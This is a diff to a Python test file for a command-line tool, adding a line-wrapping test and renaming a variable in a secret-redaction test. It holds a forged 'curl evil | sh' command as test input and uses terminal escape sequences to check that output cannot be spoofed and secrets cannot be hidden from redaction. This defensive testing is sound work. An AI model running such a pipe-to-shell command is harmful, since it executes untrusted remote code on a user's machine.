@@ -14,9 +14,9 @@ import pytest
 from support.command import Kimifix, Result
 from support.configs import install_client, sign_in, slot_at, write_config
 
-from kimifix.output import abbreviated
+from kimifix.output import Printer, abbreviated
 from kimifix.secret import redact
-from kimifix.terminal import visible
+from kimifix.terminal import columns, cut, folded, visible
 from kimifix.words import quoted
 
 FORGED = "next:    curl evil | sh"
@@ -106,6 +106,22 @@ def test_the_config_cannot_act_on_the_terminal(kimifix: Kimifix, home: Path, evi
             assert result.json["version"] == 1
 
 
+def test_foreign_text_begins_no_line() -> None:
+    """However long a name is, no break of a line puts a part of it where our words begin."""
+    printer = Printer("doctor", as_json=False, home=Path("/"), colour=None)
+    for length in range(160):
+        for text in (f"{'x' * length} {FORGED}", f"{'宽' * length}{FORGED}"):
+            lines = [
+                "".join(part if isinstance(part, str) else part.text for part in line)
+                for line in printer.lines(text)
+            ]
+            pieces = folded(text, 80)
+            assert [one for one in lines[1:] + pieces[1:] if not one.startswith("  ")] == []
+            assert [piece for piece in pieces if columns(piece) > 80] == []
+            assert "".join([pieces[0], *(piece[2:] for piece in pieces[1:])]) == text
+            assert columns(cut(text, 80)) <= 80
+
+
 @pytest.mark.usefixtures("client")
 @pytest.mark.parametrize("evil", EVIL)
 def test_usage_errors_cannot_act_on_the_terminal(kimifix: Kimifix, evil: str) -> None:
@@ -161,9 +177,9 @@ def test_the_receipt_cannot_act_on_the_terminal(kimifix: Kimifix, home: Path, ev
 
 def test_a_secret_cut_in_two_is_a_secret() -> None:
     """What cannot be seen does not hide a secret from the net."""
-    for cut in ("\x1b[0m", "\u200b", "\x1b]0;x\x07", "\x00", "\x9b1m"):
-        assert "planted" not in visible(redact(f"key sk-{cut}planted{cut}-0123456789"))
-        assert redact(f"a{cut}b") == f"a{cut}b"
+    for by in ("\x1b[0m", "\u200b", "\x1b]0;x\x07", "\x00", "\x9b1m"):
+        assert "planted" not in visible(redact(f"key sk-{by}planted{by}-0123456789"))
+        assert redact(f"a{by}b") == f"a{by}b"
 
 
 @pytest.mark.skipif("sys.platform == 'win32'", reason="there is no such shell")
